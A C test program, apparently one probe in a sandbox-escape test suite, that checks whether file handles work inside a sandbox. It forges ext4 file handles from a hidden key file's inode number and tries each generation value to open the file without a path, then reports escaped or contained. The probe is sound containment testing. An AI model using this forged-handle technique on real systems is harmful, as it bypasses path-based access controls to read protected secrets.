// name_to_handle_at / open_by_handle_at: a handle names an inode without a path, so it would
// skip every path check. Also a forged ext4 handle for the hidden key's inode number.
#include "escape.h"

struct handle {
  unsigned int handle_bytes;
  int handle_type;
  unsigned char f_handle[128];
};

int main(void) {
  const char *home = fx("ESC_HOME"), *hidden = fx("ESC_HIDDEN_FILE");
  unsigned long ino = strtoul(fx("ESC_HIDDEN_INO"), NULL, 10);
  struct handle h = {.handle_bytes = 128};
  int mount_id = 0, got = 0, leaks = 0;
  if (syscall(SYS_name_to_handle_at, AT_FDCWD, home, &h, &mount_id, 0) == 0) ++got, note("name_to_handle_at(home) works");
  else note("name_to_handle_at: %s", strerror(errno));
  h.handle_bytes = 128;
  if (syscall(SYS_name_to_handle_at, AT_FDCWD, hidden, &h, &mount_id, 0) == 0) ++got, note("handle of the hidden key");
  int mfd = open("/", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
  for (unsigned gen = 0; gen < 4; ++gen) {
    struct handle f = {.handle_bytes = 8, .handle_type = 1 /* FILEID_INO32_GEN */};
    memcpy(f.f_handle, &ino, 4);
    memcpy(f.f_handle + 4, &gen, 4);
    int fd = (int)syscall(SYS_open_by_handle_at, mfd, &f, O_RDONLY);
    if (fd >= 0) ++got, leaks += leak_fd(fd, "open_by_handle_at"), close(fd);
    else if (gen == 0) note("open_by_handle_at: %s", strerror(errno));
  }
  if (leaks) finish(ESCAPED, "a forged file handle opened the hidden key");
  if (got) finish(ESCAPED, "file handles are available in the sandbox");
  finish(CONTAINED, "file handles are refused");
}
